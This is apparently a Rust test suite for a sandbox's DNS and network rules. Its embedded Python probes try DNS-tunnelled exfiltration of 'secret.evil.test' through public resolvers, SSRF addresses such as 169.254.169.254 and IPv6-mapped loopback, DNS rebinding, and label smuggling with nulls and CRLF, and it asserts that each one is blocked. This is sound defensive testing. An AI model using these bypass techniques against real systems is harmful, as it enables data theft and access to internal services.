//! Names: who is asked for them, and what they lead to.

use super::{allowing, each, run_python, run_sh, told};
use atoll_testkit::internet::Internet;
use std::io::Write as _;

/// Says that it is the server, and ends.
fn greeting(internet: &Internet) -> u16 {
    internet.serve(|mut stream| {
        stream.write_all(b"served").ok();
    })
}

/// A program that prints what each host says, or how it fails.
fn asks(places: &[(&str, u16)]) -> String {
    format!(
        r#"
import socket
for place in {places:?}:
    try:
        with socket.create_connection(place, timeout=20) as s:
            print(s.recv(16).decode() or "nothing")
    except OSError as e:
        print(type(e).__name__)
"#
    )
}

#[test]
fn nobody_is_asked_for_a_name_before_it_is_connected_to() {
    each(|project| {
        let internet = Internet::new();
        internet.name("a.test", &["127.0.0.1"]);
        internet.name("evil.test", &["127.0.0.1"]);
        let port = greeting(&internet);
        let (place, inside) = (format!("tcp://a.test:{port}"), format!("127.0.0.1/32:{port}"));
        let flags = allowing(&[&place, &inside]);
        // Every way of asking, and of asking somebody else.
        let looks = r#"
import socket, struct
def question(name):
    labels = b"".join(bytes([len(l)]) + l for l in name.encode().split(b"."))
    return struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">HH", 1, 1)
def code(answer):
    return answer[3] & 15, socket.inet_ntoa(answer[-4:]) if answer[7] else None
print(socket.gethostbyname("a.test"), socket.getaddrinfo("a.test", 80)[0][4][0])
for server in ["127.0.0.1", "8.8.8.8", "1.1.1.1"]:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(20)
    s.connect((server, 53)); s.send(question("a.test")); print(code(s.recv(999)))
    s.send(question("secret.evil.test")); print(code(s.recv(999)))
s = socket.create_connection(("9.9.9.9", 53), timeout=20)
q = question("evil.test"); s.sendall(struct.pack(">H", len(q)) + q)
print(code(s.recv(999)[2:]))
"#;
        let run = run_python(&internet, project, &flags, looks);
        let one = "(0, '11.0.0.1')\n(0, '198.18.0.3')\n";
        let expected = format!("11.0.0.1 11.0.0.1\n{}(0, '198.18.0.3')\n", one.repeat(3));
        assert_eq!(run.stdout(), expected, "{}", run.text());
        assert_eq!(internet.questions(), Vec::<String>::new());
        // The control: who connects to what is allowed has it looked up.
        let run = run_python(&internet, project, &flags, &asks(&[("a.test", port)]));
        assert_eq!(run.stdout(), "served\n", "{}", run.text());
        let asked = internet.questions();
        assert!(!asked.is_empty() && asked.iter().all(|name| name == "a.test"), "{asked:?}");
    });
}

#[test]
fn a_name_that_is_refused_does_not_exist_or_leads_to_the_reason() {
    each(|project| {
        let internet = Internet::new();
        let script = "getent hosts evil.test; echo $?; getent hosts evil; echo $?";
        let flags = ["--net", "rules"];
        let run = run_sh(&internet, project, &flags, script);
        assert_eq!(run.stdout(), "198.18.0.3      evil.test\n0\n2\n", "{}", run.text());
        let lines = told(&run);
        assert_eq!(lines.len(), 2, "{}", run.text());
        assert!(lines[0].contains("evil.test refused") && lines[0].contains("[not-allowed]"));
        assert!(lines[0].contains("--allow-host evil.test"), "{}", lines[0]);
        // Where nothing is explained it is not there.
        project.write("atoll.toml", "[network]\nexplain = false\n");
        let run = run_sh(&internet, project, &flags, script);
        assert_eq!(run.stdout(), "2\n2\n", "{}", run.text());
        assert_eq!(internet.questions(), Vec::<String>::new());
    });
}

/// The address that is dialled is the one that was judged.
#[test]
fn a_name_that_leads_inside_is_refused_whatever_it_is_written_as() {
    each(|project| {
        let internet = Internet::new();
        let port = greeting(&internet);
        let inside = [
            "127.0.0.1",
            "127.1.2.3",
            "0.0.0.0",
            "169.254.169.254",
            "10.0.0.1",
            "192.168.1.1",
            "100.64.0.1",
            "::1",
            "::ffff:127.0.0.1",
            "::ffff:169.254.169.254",
            "64:ff9b::7f00:1",
            "2002:7f00:1::",
            "fe80::1",
            "fd00:ec2::254",
        ];
        let names: Vec<String> = (0..inside.len()).map(|n| format!("n{n}.test")).collect();
        for (name, address) in names.iter().zip(inside) {
            internet.name(name, &[address]);
        }
        let places: Vec<(&str, u16)> = names.iter().map(|name| (name.as_str(), port)).collect();
        let rule = format!("tcp://*.test:{port}");
        let run = run_python(&internet, project, &allowing(&[&rule]), &asks(&places));
        let expected = "ConnectionResetError\n".repeat(inside.len());
        assert_eq!(run.stdout(), expected, "{}", run.text());
        assert_eq!(told(&run).len(), inside.len(), "{}", run.text());
        assert!(told(&run).iter().all(|line| line.contains("[inside-address]")), "{}", run.text());
        // The control: a grant of its network lets it through.
        let grant = format!("127.0.0.1/32:{port}");
        let run = run_python(&internet, project, &allowing(&[&rule, &grant]), &asks(&places[..2]));
        assert_eq!(run.stdout(), "served\nConnectionResetError\n", "{}", run.text());
    });
}

#[test]
fn a_name_that_moves_between_two_looks_is_judged_anew() {
    each(|project| {
        let internet = Internet::new();
        let port = greeting(&internet);
        internet
            .name_in_turn("a.test", &[&["127.0.0.1"], &["127.0.0.2"], &["127.0.0.2", "127.0.0.1"]]);
        let (place, grant) = (format!("tcp://a.test:{port}"), format!("127.0.0.1/32:{port}"));
        let run = run_python(
            &internet,
            project,
            &allowing(&[&place, &grant]),
            &asks(&[("a.test", port), ("a.test", port), ("a.test", port)]),
        );
        // Of two addresses the one that may be reached is.
        assert_eq!(run.stdout(), "served\nConnectionResetError\nserved\n", "{}", run.text());
    });
}

/// What is no name is refused as such, and nobody is asked for it.
#[test]
fn names_that_could_be_taken_for_others_lead_nowhere() {
    each(|project| {
        let internet = Internet::new();
        internet.name("a.test", &["127.0.0.1"]);
        let program = r#"
import socket, struct
def ask(labels):
    wire = b"".join(bytes([len(l)]) + l for l in labels) + b"\0"
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(20)
    s.sendto(struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0) + wire + struct.pack(">HH", 1, 1), ("127.0.0.1", 53))
    answer = s.recv(999)
    return answer[3] & 15
for labels in [[b"evil.test\0", b"a", b"test"], [b"evil.test", b"a", b"test"], [b"a\r\nb", b"a", b"test"],
        [b"a b", b"test"], [b"a%00", b"test"], [b"a\t", b"test"], ["ä".encode(), b"test"], [b"127", b"1"],
        [b"2130706433"], [b"0x7f", b"1"], [b"a", b"", b"test"][:1] + [b"x" * 63] * 4]:
    print(ask(labels), end=" ")
print(ask([b"A", b"TeST"]))
"#;
        let run = run_python(&internet, project, &allowing(&["a.test", "*.a.test"]), program);
        let codes = run.stdout();
        let codes: Vec<&str> = codes.split_whitespace().collect();
        assert_eq!(codes.len(), 12, "{}", run.text());
        // Not there, or no question at all; but never an address.
        assert!(codes[..11].iter().all(|code| ["1", "3"].contains(code)), "{codes:?}");
        assert_eq!(codes[11], "0");
        assert_eq!(internet.questions(), Vec::<String>::new());
    });
}

/// Programs that try QUIC, or the time, go on with something else then.
#[test]
fn other_protocols_fail_at_once() {
    each(|project| {
        let internet = Internet::new();
        let program = r#"
import socket, time
begin = time.monotonic()
for kind, place in [(socket.SOCK_DGRAM, ("8.8.8.8", 443)), (socket.SOCK_DGRAM, ("8.8.8.8", 123)),
        (socket.SOCK_DGRAM, ("224.0.0.251", 5353))]:
    s = socket.socket(socket.AF_INET, kind)
    try: s.sendto(b"x", place); print("sent")
    except OSError as e: print(e.errno)
print(time.monotonic() - begin < 5)
"#;
        let run = run_python(&internet, project, &["--net", "rules"], program);
        assert_eq!(run.stdout(), "1\n1\n1\nTrue\n", "{}", run.text());
    });
}

#[test]
fn servers_inside_work_beside_it() {
    each(|project| {
        let internet = Internet::new();
        let program = r#"
import socket, threading
server = socket.create_server(("0.0.0.0", 0))
port = server.getsockname()[1]
def serve():
    peer, _ = server.accept(); peer.sendall(b"own"); peer.close()
threading.Thread(target=serve).start()
print(socket.create_connection(("127.0.0.1", port)).recv(9).decode())
low = socket.create_server(("127.0.0.1", 80)); print(low.getsockname()[1])
"#;
        let run = run_python(&internet, project, &["--net", "rules"], program);
        assert_eq!(run.stdout(), "own\n80\n", "{}", run.text());
    });
}
